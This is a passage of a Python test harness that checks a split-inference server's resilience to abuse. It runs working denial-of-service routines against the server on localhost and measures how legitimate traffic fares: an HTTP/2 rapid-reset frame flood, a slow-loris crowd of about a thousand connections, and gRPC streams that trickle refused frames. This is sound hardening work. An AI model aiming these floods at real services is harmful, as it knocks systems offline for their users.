    GOAWAY, the connection closed."""
    block = _hpack_literal([(":method", "POST"), (":scheme", "http"), (":path", path),
                            (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
                            ("te", "trailers")])
    got: Dict[str, Any] = {"sent": 0, "rst_codes": {}, "goaway": None, "closed": False, "error": None}
    sk = socket.create_connection(("127.0.0.1", port), timeout=10)
    sk.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    lock = threading.Lock()

    def send(data: bytes) -> None:
        with lock:
            sk.sendall(data)

    def reader() -> None:
        buf = b""
        try:
            while True:
                d = sk.recv(1 << 16)
                if not d:
                    break
                buf += d
                while len(buf) >= 9:
                    n, ftype, flags = int.from_bytes(buf[:3], "big"), buf[3], buf[4]
                    if len(buf) < 9 + n:
                        break
                    payload, buf = buf[9:9 + n], buf[9 + n:]
                    if ftype == 4 and not flags & 1:  # SETTINGS: acknowledge
                        send(_h2_frame(4, 1, 0))
                    elif ftype == 3 and n == 4:  # RST_STREAM from the server
                        code = int.from_bytes(payload, "big")
                        got["rst_codes"][code] = got["rst_codes"].get(code, 0) + 1
                    elif ftype == 7 and n >= 8:  # GOAWAY
                        got["goaway"] = int.from_bytes(payload[4:8], "big")
        except OSError as e:  # the server cut the connection: that is one outcome the attack measures
            got["error"] = f"{type(e).__name__}: {e}"
        got["closed"] = True

    send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _h2_frame(4, 0, 0))
    threading.Thread(target=reader, daemon=True).start()
    stream, cancel = 1, struct.pack(">I", 8)
    t_end = time.monotonic() + seconds
    try:
        while time.monotonic() < t_end and not got["closed"]:
            out = []
            for _ in range(batch):
                out += [_h2_frame(1, 4, stream, block), _h2_frame(3, 0, stream, cancel)]  # END_HEADERS; CANCEL
                stream += 2
            send(b"".join(out))
            got["sent"] += batch
    except OSError as e:
        got["error"] = short(e, 80)
    time.sleep(0.2)  # the last answers
    with contextlib.suppress(OSError):
        sk.close()
    return got


def _rapid_reset_process(port: int, seconds: float) -> "subprocess.Popen":
    code = ("import json, sys; sys.path.insert(0, %r); import service_hardening as sh; "
            "print(json.dumps(sh.rapid_reset(%d, %r)))" % (str(HERE), port, seconds))
    return subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            cwd=str(HERE), text=True)


def _g1(server: "Server", model: str, msg: bytes, args) -> Dict[str, Any]:
    import grpc

    from shared._proto import splitinfer_pb2 as pb, splitinfer_pb2_grpc as pb_grpc

    channel = grpc.insecure_channel(f"127.0.0.1:{server.grpc_port}")
    stub = pb_grpc.SplitInferenceStub(channel)
    stub.Infer(pb.InferRequest(model=model, bitstream=msg), timeout=60)  # connected and warm
    server.wait_idle()
    c0 = server.cpu_s()
    attackers = [_rapid_reset_process(server.grpc_port, args.g_seconds) for _ in range(args.g_attackers)]
    time.sleep(1.0)  # the attack under way
    outcomes: Dict[str, int] = {}
    t_end = time.monotonic() + args.g_seconds - 1.5
    while time.monotonic() < t_end:
        t0 = time.monotonic()
        try:
            stub.Infer(pb.InferRequest(model=model, bitstream=msg), timeout=5.0)
            k = "OK"
        except grpc.RpcError as e:
            k = f"{grpc_code(e)} ({dict(e.trailing_metadata() or ()).get('splitinfer-error-kind', 'no kind')})"
        outcomes[k] = outcomes.get(k, 0) + 1
        time.sleep(max(0.0, 0.5 - (time.monotonic() - t0)))
    reports = []
    for a in attackers:
        try:
            out, err = a.communicate(timeout=args.g_seconds + 30)
            reports.append(json.loads(out.strip().splitlines()[-1]) if out.strip() else {"error": err[-300:]})
        except Exception as e:  # noqa: BLE001
            a.kill()
            reports.append({"error": short(e, 120)})
    cpu = (server.cpu_s() or 0) - (c0 or 0)
    channel.close()
    n = sum(outcomes.values())
    ok = outcomes.get("OK", 0)
    streams = sum(r.get("sent", 0) for r in reports)
    refused = sum(int(v) for r in reports for c, v in r.get("rst_codes", {}).items() if str(c) == "7")
    goaways = sum(1 for r in reports if r.get("goaway") is not None)
    alive = server.health_grpc(5.0)[0]
    share = ok / n if n else 0.0
    fig = (f"{ok} of {n} legitimate Infer OK ({100 * share:.1f}%) while {len(reports)} connections opened and reset "
           f"{streams / args.g_seconds:,.0f} streams/s ({refused:,} REFUSED_STREAM, {goaways} GOAWAY); server "
           f"{cpu:.1f} CPU-s over {args.g_seconds:g} s; outcomes {outcomes}; health after: {alive}")
    print(f"  g1 {fig}", flush=True)
    return {"outcomes": outcomes, "attackers": reports, "server_cpu_s": round(cpu, 2), "health_after": alive,
            "met": n > 0 and share >= 0.99 and alive, "figure": fig}


def _paired_load(server: "Server", model: str, msgs: List[bytes], front: str, rest_fmt: Optional[str], args,
                 runs: Sequence[Tuple[str, int, float, float, float]]) -> Dict[str, Any]:
    """Load runs (label, clients, deadline, backoff, max_backoff) alternated ``--repeats`` times: goodput of each."""
    got: Dict[str, List[Dict[str, Any]]] = {r[0]: [] for r in runs}
    for _ in range(args.repeats):
        for label, clients, deadline, backoff, max_backoff in runs:
            server.ensure()
            server.wait_idle(timeout=30)
            r = asyncio.run(_run_load(front, server, model, msgs, clients, args.warmup, args.duration, deadline,
                                      backoff, max_backoff, rest_fmt or "json"))
            got[label].append(r)
            print(f"  {front} {label:<26} {clients:>4} clients, deadline {deadline:g} s: goodput "
                  f"{r['goodput_rps']:.1f}/s {r['counts']}, refused p50 {r['refused_p50_ms'] or 0:.1f} ms, ok p50 "
                  f"{r['ok_p50_ms'] or 0:.0f} ms", flush=True)
    return {label: _aggregate(rs) for label, rs in got.items()}


def _g2(server: "Server", model: str, msgs: List[bytes], capacity: int, args) -> Dict[str, Any]:
    agg = _paired_load(server, model, msgs, "grpc", None, args,
                       [("30 s deadlines", capacity, 30.0, args.backoff, args.max_backoff),
                        ("2 s deadlines", capacity, 2.0, args.backoff, args.max_backoff)])
    long_, short_ = agg["30 s deadlines"], agg["2 s deadlines"]
    ratio = short_["goodput_rps"] / long_["goodput_rps"] if long_["goodput_rps"] else None
    fig = (f"C={capacity}: {ratio:.2f} ({short_['goodput_rps']:.1f} / {long_['goodput_rps']:.1f} req/s; runs "
           f"{short_['goodput_per_run']} / {long_['goodput_per_run']}; 2 s: {short_['counts']})" if ratio is not None
           else "n/a")
    print(f"  g2 {fig}", flush=True)
    return {"runs": agg, "ratio": ratio, "met": ratio is not None and ratio >= 0.9, "figure": fig}


def _g3(server: "Server", model: str, msgs: List[bytes], capacity: int, rest_fmt: Optional[str],
        args) -> Dict[str, Any]:
    out: Dict[str, Any] = {}
    fronts = ["grpc"] + (["rest"] if rest_fmt else [])
    for front in fronts:
        agg = _paired_load(server, model, msgs, front, rest_fmt, args,
                           [("capacity", capacity, 30.0, args.backoff, args.max_backoff),
                            ("4x, 10 ms retries", 4 * capacity, 30.0, 0.01, 0.01)])
        cap, x4 = agg["capacity"], agg["4x, 10 ms retries"]
        out[front] = {"runs": agg, "ratio": x4["goodput_rps"] / cap["goodput_rps"] if cap["goodput_rps"] else None}
    ratios = [out[f]["ratio"] for f in fronts]
    out["met"] = all(r is not None and r >= 0.85 for r in ratios)
    out["figure"] = f"C={capacity}: " + "; ".join(
        f"{f}: {out[f]['ratio']:.2f} ({out[f]['runs']['4x, 10 ms retries']['goodput_rps']:.1f} / "
        f"{out[f]['runs']['capacity']['goodput_rps']:.1f} req/s; refused p50 "
        f"{out[f]['runs']['4x, 10 ms retries']['refused_p50_ms'] or 0:.0f} ms)" if out[f]["ratio"] is not None
        else f"{f}: n/a" for f in fronts)
    print(f"  g3 {out['figure']}", flush=True)
    return out


def section_g(server: "Server", model: str, msgs: List[bytes], capacity: int, rest_fmt: Optional[str],
              args) -> Dict[str, Any]:
    out: Dict[str, Any] = {}
    cases = set(args.g_cases.replace(" ", "").split(","))
    if "g1" in cases:
        out["g1"] = _g1(server, model, msgs[0], args)
    if "g2" in cases:
        out["g2"] = _g2(server, model, msgs, capacity, args)
    if "g3" in cases:
        out["g3"] = _g3(server, model, msgs, capacity, rest_fmt, args)
    return out


# ====================================================================================== (h) slow clients, trickles
def raise_fd_limit() -> Tuple[int, int]:
    """RLIMIT_NOFILE soft up to hard (a thousand slow connections need as many descriptors here and in the server,
    which inherits the limit); returns (soft, hard) after."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or soft < hard:
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard if hard != resource.RLIM_INFINITY else 65536, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)


def slowloris_crowd(port: int, n: int, seconds: float, line_every: float = 2.0) -> Dict[str, Any]:
    """``n`` connections that each send a request line and then one header line every ``line_every`` s, never the
    end of the headers; a connection the server cuts (408, or closed) is opened again at once, for ``seconds``.
    Returns the connections opened, how they ended, how long the server held them, and how many were open (sampled
    every 0.5 s)."""
    raise_fd_limit()
    got: Dict[str, Any] = {"opened": 0, "connect_errors": {}, "ended": {}, "held_s": [], "open_samples": []}
    live = [0]

    async def one(i: int, t_end: float) -> None:
        await asyncio.sleep(i / n)  # the opens spread over the first second
        while time.monotonic() < t_end:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
            except (OSError, asyncio.TimeoutError) as e:
                k = type(e).__name__
                got["connect_errors"][k] = got["connect_errors"].get(k, 0) + 1
                await asyncio.sleep(0.2)
                continue
            got["opened"] += 1
            live[0] += 1
            t0 = time.monotonic()
            how = "still open at the end"
            try:
                writer.write(b"GET /v2/health/live HTTP/1.1\r\nhost: 127.0.0.1\r\n")
                while time.monotonic() < t_end:
                    try:
                        data = await asyncio.wait_for(reader.read(4096), line_every)
                    except asyncio.TimeoutError:
                        writer.write(b"x-slow: 1\r\n")
                        continue
                    if not data:
                        how = "closed without an answer"
                    else:
                        how = f"answered {data.split(b' ', 2)[1].decode(errors='replace')}" \
                            if data.startswith(b"HTTP/") else "closed after other bytes"
                    break
            except OSError as e:
                how = f"{type(e).__name__}"
            finally:
                live[0] -= 1
                writer.close()
                if how != "still open at the end":
                    got["held_s"].append(time.monotonic() - t0)
                got["ended"][how] = got["ended"].get(how, 0) + 1

    async def main() -> None:
        t_end = time.monotonic() + seconds
        tasks = [asyncio.create_task(one(i, t_end)) for i in range(n)]

        async def sample():
            while time.monotonic() < t_end:
                await asyncio.sleep(0.5)
                got["open_samples"].append(live[0])

        await asyncio.gather(sample(), *tasks, return_exceptions=True)

    asyncio.run(main())
    held = got.pop("held_s")
    got["held_p50_s"] = round(fz.pct(held, 50), 2) if held else None
    got["held_max_s"] = round(max(held), 2) if held else None
    s = sorted(got.pop("open_samples")[2:]) or [0]  # after the first second of opens
    got["open_min"], got["open_p50"], got["open_max"] = s[0], s[len(s) // 2], s[-1]
    return got


def _h1(server: "Server", args) -> Dict[str, Any]:
    """(h1) health checks while ``--h-connections`` slow-loris connections are held open and re-opened."""
    import grpc
    import httpx
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    n, secs, timeout = args.h_connections, args.h_seconds, args.h_probe_timeout
    code = ("import json, sys; sys.path.insert(0, %r); import service_hardening as sh; "
            "print(json.dumps(sh.slowloris_crowd(%d, %d, %r)))" % (str(HERE), server.http_port, n, secs + 4.0))
    crowd = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             cwd=str(HERE), text=True)
    channel = grpc.insecure_channel(f"127.0.0.1:{server.grpc_port}")
    health = health_pb2_grpc.HealthStub(channel)
    with contextlib.suppress(grpc.RpcError):
        health.Check(health_pb2.HealthCheckRequest(), timeout=10)  # connected before the crowd arrives
    time.sleep(3.0)  # the crowd's connections are open
    probes: Dict[str, Dict[str, int]] = {"rest live": {}, "rest ready": {}, "grpc Check": {}}
    lat: Dict[str, List[float]] = {k: [] for k in probes}

    def count(kind: str, outcome: str, dt: float) -> None:
        probes[kind][outcome] = probes[kind].get(outcome, 0) + 1
        if outcome == "answered":
            lat[kind].append(1e3 * dt)

    t_end = time.monotonic() + secs
    while time.monotonic() < t_end:
        t0 = time.monotonic()
        for kind, path in (("rest live", "/v2/health/live"), ("rest ready", "/v2/health/ready")):
            t = time.perf_counter()
            try:  # a new connection each time, as a kubelet probe does
                r = httpx.get(f"http://127.0.0.1:{server.http_port}{path}", timeout=timeout,
                              headers={"connection": "close"})
                count(kind, "answered" if r.status_code == 200 else str(r.status_code), time.perf_counter() - t)
            except httpx.HTTPError as e:
                count(kind, f"failed ({type(e).__name__})", 0)
        t = time.perf_counter()
        try:
            r = health.Check(health_pb2.HealthCheckRequest(), timeout=timeout)
            count("grpc Check", "answered" if r.status == health_pb2.HealthCheckResponse.SERVING
                  else f"status {r.status}", time.perf_counter() - t)
        except grpc.RpcError as e:
            count("grpc Check", f"failed ({grpc_code(e)})", 0)
        time.sleep(max(0.0, 1.0 - (time.monotonic() - t0)))
    channel.close()
    try:
        out, err = crowd.communicate(timeout=secs + 60)
        report = json.loads(out.strip().splitlines()[-1]) if out.strip() else {"error": err[-500:]}
    except Exception as e:  # noqa: BLE001
        crowd.kill()
        report = {"error": short(e, 200)}
    alive = server.health_rest(5.0)[0] and server.health_grpc(5.0)[0]
    tried = {k: sum(v.values()) for k, v in probes.items()}
    ok = {k: v.get("answered", 0) for k, v in probes.items()}
    met = alive and all(tried[k] and ok[k] == tried[k] for k in probes) and "error" not in report
    missed = {k: {o: c for o, c in v.items() if o != "answered"} for k, v in probes.items() if ok[k] < tried[k]}
    fig = (f"{'; '.join(f'{k} {ok[k]} of {tried[k]}' for k in probes)} answered ({timeout:g} s timeout; worst "
           + ", ".join(f"{k} {max(v):.0f} ms" for k, v in lat.items() if v)
           + f"; not answered: {missed or 'none'})"
           f" while {n} slow-loris connections were held (open {report.get('open_min')}-{report.get('open_max')}, "
           f"p50 {report.get('open_p50')}; {report.get('opened')} opened in {secs + 4:g} s, each held p50 "
           f"{report.get('held_p50_s')} s, max {report.get('held_max_s')} s; {report.get('ended')}; connect errors "
           f"{report.get('connect_errors')}); server alive after: {alive}")
    print(f"  h1 {fig}", flush=True)
    return {"probes": probes, "latency_ms": {k: {"p50": fz.pct(v, 50), "max": max(v)} for k, v in lat.items() if v},
            "crowd": report, "alive_after": alive, "met": met, "figure": fig}


def _trickle_frames(model: str, msg: bytes):
    """(InferStream, ModelStreamInfer) frames: a valid one, and one that parses but is refused (a garbage
    bitstream): the server answers it with an error, which is not progress."""
    from shared._proto import splitinfer_pb2 as pb

    garbage = b"\x00garbage" * 8
    frames = {"InferStream": (pb.InferRequest(model=model, bitstream=msg).SerializeToString(),
                              pb.InferRequest(model=model, bitstream=garbage).SerializeToString())}
    try:
        from tritonclient.grpc import service_pb2 as tpb

        t = tpb.ModelInferRequest.InferInputTensor

        def oip(data: bytes) -> bytes:
            return tpb.ModelInferRequest(model_name=model, inputs=[t(name="bitstream", datatype="BYTES", shape=[1])],
                                         raw_input_contents=[struct.pack("<I", len(data)) + data]).SerializeToString()

        frames["ModelStreamInfer"] = (oip(msg), oip(garbage))
    except ImportError as e:
        print(f"  note: no OIP stubs ({e}): ModelStreamInfer is not used", file=sys.stderr)
    return frames


_STREAM_PATHS = {"InferStream": "/splitinfer.v1.SplitInference/InferStream",
                 "ModelStreamInfer": "/inference.GRPCInferenceService/ModelStreamInfer",
                 "Watch": "/grpc.health.v1.Health/Watch"}


def _is_error_answer(kind: str, raw: bytes) -> bool:
    if kind == "InferStream":
        from shared._proto import splitinfer_pb2 as pb

        return pb.InferStreamResponse.FromString(raw).HasField("error")
    if kind == "ModelStreamInfer":
        from tritonclient.grpc import service_pb2 as tpb

        return bool(tpb.ModelStreamInferResponse.FromString(raw).error_message)
    from grpc_health.v1 import health_pb2

    return health_pb2.HealthCheckResponse.FromString(raw).status != health_pb2.HealthCheckResponse.SERVING


def _paced(frame: Optional[bytes], every: float, stop: threading.Event):
    """A request stream: ``frame`` at once and then every ``every`` s until ``stop`` (None: one empty Watch
    request)."""
    if frame is None:
        from grpc_health.v1 import health_pb2

        yield health_pb2.HealthCheckRequest().SerializeToString()
        stop.wait()
        return
    while not stop.is_set():
        yield frame
        if stop.wait(every):
            return


def _h2_run(server: "Server", model: str, msg: bytes, reopen: bool, args) -> Dict[str, Any]:
    """One trickle run: 16 attacking streams, then 15 legitimate ones trying to open for ``--h-window`` s."""
    import grpc

    frames = _trickle_frames(model, msg)
    kinds = [k for k in ("InferStream", "ModelStreamInfer") if k in frames]
    stop_attack, stop_legit = threading.Event(), threading.Event()
    channels = [grpc.insecure_channel(f"127.0.0.1:{server.grpc_port}") for _ in range(4)]
    lock = threading.Lock()
    attack: Dict[str, Any] = {"opened": 0, "ended": {}, "held_s": [], "error_answers": 0}
    t_start = time.monotonic()

    def attacker(i: int) -> None:
        kind = kinds[i % len(kinds)]
        while not stop_attack.is_set():
            call = channels[i % len(channels)].stream_stream(_STREAM_PATHS[kind])(
                _paced(frames[kind][1], args.h_trickle_s, stop_attack), timeout=600)
            t0, end = time.monotonic(), "ended OK"
            with lock:
                attack["opened"] += 1
            try:
                for raw in call:
                    if _is_error_answer(kind, raw):
                        with lock:
                            attack["error_answers"] += 1
            except grpc.RpcError as e:
                end = grpc_code(e)
            with lock:
                attack["ended"][end] = attack["ended"].get(end, 0) + 1
                if end != "RESOURCE_EXHAUSTED":
                    attack["held_s"].append(time.monotonic() - t0)
            if not reopen and end != "RESOURCE_EXHAUSTED":
                return
            if end == "RESOURCE_EXHAUSTED":
                stop_attack.wait(0.1)  # a determined attacker: no back-off worth the name

    legit: List[Dict[str, Any]] = []

    def legitimate(i: int) -> None:
        kind = ("InferStream", "ModelStreamInfer", "Watch")[i % 3]
        if kind not in frames and kind != "Watch":
            kind = "InferStream"
        rec: Dict[str, Any] = {"kind": kind, "admitted_after_s": None, "tries": 0, "refusals": {}, "answers": 0}
        with lock:
            legit.append(rec)
        t_try = time.monotonic()
        ch = channels[i % len(channels)]
        while not stop_legit.is_set() and rec["admitted_after_s"] is None:
            rec["tries"] += 1
            frame = None if kind == "Watch" else frames[kind][0]
            call = ch.stream_stream(_STREAM_PATHS[kind])(_paced(frame, 2.0, stop_legit), timeout=600)
            wait = 0.5
            try:
                for raw in call:
                    if _is_error_answer(kind, raw):
                        continue
                    rec["answers"] += 1
                    if rec["admitted_after_s"] is None:
                        rec["admitted_after_s"] = round(time.monotonic() - t_try, 1)
                break_code = "ended OK"
            except grpc.RpcError as e:
                break_code = grpc_code(e)
                for k, v in (e.trailing_metadata() or ()):
                    if k == "splitinfer-retry-after-ms":
                        with contextlib.suppress(ValueError):
                            wait = min(float(v) / 1e3, 1.0)
            if rec["admitted_after_s"] is None:
                rec["refusals"][break_code] = rec["refusals"].get(break_code, 0) + 1
                stop_legit.wait(wait)
            else:
                rec["ended"] = break_code

    attackers = [threading.Thread(target=attacker, args=(i,), daemon=True) for i in range(args.h_trickles)]
    for t in attackers:
        t.start()
    time.sleep(3.0)  # every attacking stream holds its slot
    with lock:
        held_before = attack["opened"] - sum(v for k, v in attack["ended"].items())
    legits = [threading.Thread(target=legitimate, args=(i,), daemon=True) for i in range(args.h_legit)]
    for t in legits:
        t.start()
    t_end = time.monotonic() + args.h_window
    while time.monotonic() < t_end and not all(r["admitted_after_s"] is not None for r in legit):
        time.sleep(0.5)
    time.sleep(min(2.0, max(0.0, t_end - time.monotonic())))  # admitted streams answer a little longer
    stop_legit.set()
    stop_attack.set()
    for c in channels:
        c.close()
    for t in attackers + legits:
        t.join(10)
    admitted = [r for r in legit if r["admitted_after_s"] is not None]
    waits = sorted(r["admitted_after_s"] for r in admitted)
    by_kind: Dict[str, str] = {}
    for k in ("InferStream", "ModelStreamInfer", "Watch"):
        rs = [r for r in legit if r["kind"] == k]
        if rs:
            by_kind[k] = f"{sum(r['admitted_after_s'] is not None for r in rs)}/{len(rs)}"
    held = attack.pop("held_s")
    return {"reopen": reopen, "attackers_open_before": held_before, "attack": attack,
            "attack_held_p50_s": round(fz.pct(held, 50), 1) if held else None,
            "legit": legit, "admitted": len(admitted), "tried": len(legit), "by_kind": by_kind,
            "admitted_after_p50_s": waits[len(waits) // 2] if waits else None,
            "admitted_after_max_s": waits[-1] if waits else None, "seconds": round(time.monotonic() - t_start, 1)}


def _h2(server: "Server", model: str, msg: bytes, args) -> Dict[str, Any]:
    """(h2) legitimate streams opening while ``--h-trickles`` streams trickle refused frames: the issue's attacker
    (streams held as long as the server lets them), then a determined one (each stream opened again at once when the
    server cuts it, refusals retried after 0.1 s)."""
    out: Dict[str, Any] = {}
    for mode, reopen in (("holding", False), ("re-opening", True)):
        server.ensure()
        server.wait_idle(timeout=30)
        r = _h2_run(server, model, msg, reopen, args)
        out[mode] = r
        a = r["attack"]
        print(f"  h2 {mode}: {r['admitted']} of {r['tried']} legitimate streams admitted ({r['by_kind']}; after p50 "
              f"{r['admitted_after_p50_s']} s, max {r['admitted_after_max_s']} s) while {args.h_trickles} streams "
              f"trickled a refused frame every {args.h_trickle_s:g} s ({r['attackers_open_before']} open before; "
              f"{a['opened']} opened, ended {a['ended']}, held p50 {r['attack_held_p50_s']} s, {a['error_answers']} "
              f"error answers)", flush=True)
    alive = server.health_grpc(5.0)[0]
    out["alive_after"] = alive
    out["met"] = alive and all(out[m]["admitted"] == out[m]["tried"] > 0 for m in ("holding", "re-opening"))
    out["figure"] = "; ".join(
        f"{m}: {out[m]['admitted']} of {out[m]['tried']} admitted ({out[m]['by_kind']}; after p50 "
        f"{out[m]['admitted_after_p50_s']} s, max {out[m]['admitted_after_max_s']} s; attackers opened "
        f"{out[m]['attack']['opened']} streams, held p50 {out[m]['attack_held_p50_s']} s, ended "
        f"{out[m]['attack']['ended']})" for m in ("holding", "re-opening")) + (
        f"; {args.h_trickles} trickling streams, a refused frame every {args.h_trickle_s:g} s, "
        f"{args.h_window:g} s window; server alive after: {alive}")
    return out


def section_h(server: "Server", model: str, msg: bytes, args) -> Dict[str, Any]:
    out: Dict[str, Any] = {}
    cases = set(args.h_cases.replace(" ", "").split(","))
    if "h1" in cases:
        out["h1"] = _h1(server, args)
    if "h2" in cases:
        out["h2"] = _h2(server, model, msg, args)
    return out


# ====================================================================================== main
def server_setting(root: Path, env: Dict[str, str], name: str) -> Optional[Any]:
    """One setting as the server at ``root`` reads it with ``env`` (in a subprocess: that checkout's code)."""
    code = f"from cloud_server.settings import load_settings; print(repr(load_settings().{name}))"
    try:
        out = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True, text=True, timeout=120,
                             env={**os.environ, **env, "PYTHONPATH": str(root)})
        return ast.literal_eval(out.stdout.strip().splitlines()[-1])
    except Exception:  # noqa: BLE001
        return None


def main(argv: Optional[List[str]] = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter,
                                epilog=__doc__.split("\n\n", 1)[1])
    p.add_argument("--bundle", default=str(fz.DEFAULT_BUNDLE), help="bundle folder (default: the embedded ladder)")
    p.add_argument("--weights", default=None, help="backbone weights file (default: pretrained)")
    p.add_argument("--images", default=str(fz.SAMPLES), help="images for the valid bitstreams (default: samples)")
    p.add_argument("--server-root", default=None, help="run the server from this checkout (default: this one)")
    p.add_argument("--only", default="a,b,c,d,e,f,g,h", help="sections to run (b and c run together)")
    p.add_argument("--capacity", type=int, default=0,
                   help="(e) capacity C: the server's max_concurrent_requests is set to it (default 0: the server's "
                        "own setting)")
    p.add_argument("--duration", type=float, default=8.0, help="(e) measured seconds per load run (default 8)")
    p.add_argument("--warmup", type=float, default=3.0, help="(e) seconds before measuring (default 3)")
    p.add_argument("--repeats", type=int, default=2, help="(e) C / 4C pairs per front end, alternated (default 2)")
    p.add_argument("--deadline", type=float, default=5.0, help="(e) client deadline per request, s (default 5)")
    p.add_argument("--backoff", type=float, default=0.25, help="(e) back-off after a refusal without a retry hint")
    p.add_argument("--max-backoff", type=float, default=1.0, help="(e) longest back-off a retry hint may ask for")
    p.add_argument("--rss-cap-mb", type=float, default=2048.0,
                   help="(c) kill the server when an upload takes it this far over its baseline (default 2048)")
    p.add_argument("--slowloris-s", type=float, default=15.0, help="(b) how long slow connections try (default 15)")
    p.add_argument("--case-timeout", type=float, default=60.0, help="(b) client timeout per abuse case")
    p.add_argument("--f-cases", default="f1,f2,f3", help="(f) which of its cases to run (default all)")
    p.add_argument("--g-cases", default="g1,g2,g3", help="(g) which of its cases to run (default all)")
    p.add_argument("--g-seconds", type=float, default=10.0, help="(g1) seconds of rapid reset (default 10)")
    p.add_argument("--g-attackers", type=int, default=2, help="(g1) attacking connections (default 2)")
    p.add_argument("--h-cases", default="h1,h2", help="(h) which of its cases to run (default all)")
    p.add_argument("--h-connections", type=int, default=1050, help="(h1) slow-loris connections (default 1,050)")
    p.add_argument("--h-seconds", type=float, default=30.0, help="(h1) seconds of health probes (default 30)")
    p.add_argument("--h-probe-timeout", type=float, default=2.0, help="(h1) timeout of each probe, s (default 2)")
    p.add_argument("--h-trickles", type=int, default=16, help="(h2) trickling streams (default 16)")
    p.add_argument("--h-trickle-s", type=float, default=20.0, help="(h2) seconds between their frames (default 20)")
    p.add_argument("--h-legit", type=int, default=15, help="(h2) legitimate streams (default 15)")
    p.add_argument("--h-window", type=float, default=75.0,
                   help="(h2) seconds the legitimate streams try to open (default 75)")
    p.add_argument("--server-env", action="append", default=[], metavar="KEY=VALUE", help="more server settings")
    p.add_argument("--json", default=None, help="write every figure here")
    p.add_argument("-v", "--verbose", action="store_true", help="print every abuse case, not only the failures")
    args = p.parse_args(argv)
    only = set(args.only.replace(" ", "").split(","))
    if only & {"b", "c"}:
        only |= {"b", "c"}

    t_all = time.perf_counter()
    fd_soft, fd_hard = raise_fd_limit()  # (h1): a thousand connections here and in the server (it inherits this)
    messages, bundle = fz.encode_messages(args.bundle, args.weights, args.images, 3)
    model = f"{bundle.model}-{bundle.split}"
    msg = messages[0]
    server_root = Path(args.server_root).resolve() if args.server_root else fz.ROOT
    env = {"SPLITINFER_REST_HEADER_TIMEOUT_S": "5", "SPLITINFER_REST_BODY_TIMEOUT_S": "8"}
    if args.capacity:
        env["SPLITINFER_MAX_CONCURRENT_REQUESTS"] = str(args.capacity)
    for kv in args.server_env:
        k, _, v = kv.partition("=")
        env[k] = v
    if not args.capacity and only & {"e", "g"}:
        args.capacity = server_setting(server_root, env, "max_concurrent_requests") or 64
    git = fz.git_state() if server_root == fz.ROOT else {"server_root": str(server_root)}
    results: Dict[str, Any] = {"git": git, "bundle": bundle.bundle_id, "model": model, "server_env": env,
                               "capacity": args.capacity, "cpus": os.cpu_count(),
                               "python": platform.python_version(), "args": vars(args),
                               "fd_limit": [fd_soft, fd_hard], "loadavg_start": os.getloadavg()}
    print(f"server: {server_root} ({fz.git_label(git)}), bundle {bundle.bundle_id} ({model}), {os.cpu_count()} CPUs; "
          f"load average {' '.join(f'{x:.1f}' for x in os.getloadavg())}; open files limit {fd_soft}")
    print(f"server settings: {' '.join(f'{k}={v}' for k, v in env.items())} OMP_NUM_THREADS=1"
          + (f"; capacity C = {args.capacity}" if "e" in only else ""), flush=True)
    server = Server(str(bundle.root), model, args.weights, env=env, root=server_root)
    try:
        server.start()
    except Exception as e:  # noqa: BLE001
        print(f"the server does not start: {short(e, 3000)}")
        results["error"] = f"the server did not start: {e}"
        _summary(results)
        _write(args.json, results)
        return 1
    try:
        gs = fz.GrpcSender(server.grpc_port, model, 30)
        cls, native, detail = gs.send(msg, "native")
        gs.close()
        if cls != "ok":
            print(f"a valid bitstream is refused on the native gRPC Infer: {detail}")
        fmt, tried = fz.pick_rest_format(server.http_port, model, messages, {}, 30, "auto")
        results["native_answer"] = native
        results["rest_framing"] = {"picked": fmt, "tried": tried}
        print(f"native gRPC answer {native}; REST infer framing accepted: {fmt} ({tried})", flush=True)
        sections = [
            ("a", "(a) tritonclient", lambda: section_a(server, model, msg, native or (0, ()))),
            ("d", "(d) Health/Check while 100 idle streams are open", lambda: section_d(server, model, msg)),
            ("e", "(e) overload", lambda: section_e(server, model, messages, args.capacity, args, fmt)),
            ("b", "(b)+(c) adversarial list and upload RSS", lambda: section_bc(server, model, msg, args)),
            ("f", "(f) issue 24: scan bomb, held unauthenticated bodies, JSON bombs (a server with an API key)",
             lambda: _with_key_server(bundle, model, env, server_root, args)),
            ("g", "(g) issue 24: HTTP/2 rapid reset, deadline-aware admission",
             lambda: section_g(server, model, messages, args.capacity, fmt, args)),
            ("h", "(h) issue 24: health checks during a slow-loris crowd, streams opening past trickling ones",
             lambda: section_h(server, model, msg, args)),
        ]
        for key, title, fn in sections:
            if key not in only:
                continue
            print(f"\n{title} ... (load average {' '.join(f'{x:.1f}' for x in os.getloadavg())})", flush=True)
            t0 = time.perf_counter()
            try:
                server.ensure()
                r = fn()
            except Exception as e:  # noqa: BLE001 - report, do not crash
                traceback.print_exc()
                r = {"error": short(e, 1000), "met": False, "figure": "ERROR " + short(e, 160)}
            secs = round(time.perf_counter() - t0, 1)
            if key == "b" and "rows" in r:
                results["b"], results["c"], results["abuse_rows"] = r["b"], r["c"], r["rows"]
                results["b"]["seconds"] = secs
            elif key == "b":
                results["b"] = results["c"] = r
            else:
                results[key] = r
                r["seconds"] = secs
                r["loadavg_after"] = os.getloadavg()
            print(f"  done in {secs} s", flush=True)
    finally:
        results["server_exit_code"] = server.stop()
        results["server_log"] = str(server.log_path)
    results["total_seconds"] = round(time.perf_counter() - t_all, 1)
    _summary(results)
    _write(args.json, results)
    return 0


def _with_key_server(bundle, model: str, env: Dict[str, str], root: Path, args) -> Dict[str, Any]:
    """Section (f) on a server of its own, with an API key (E3 is about requests without one)."""
    key = "bench-key"
    server = Server(str(bundle.root), model, args.weights, env={**env, "SPLITINFER_API_KEYS": json.dumps([key])},
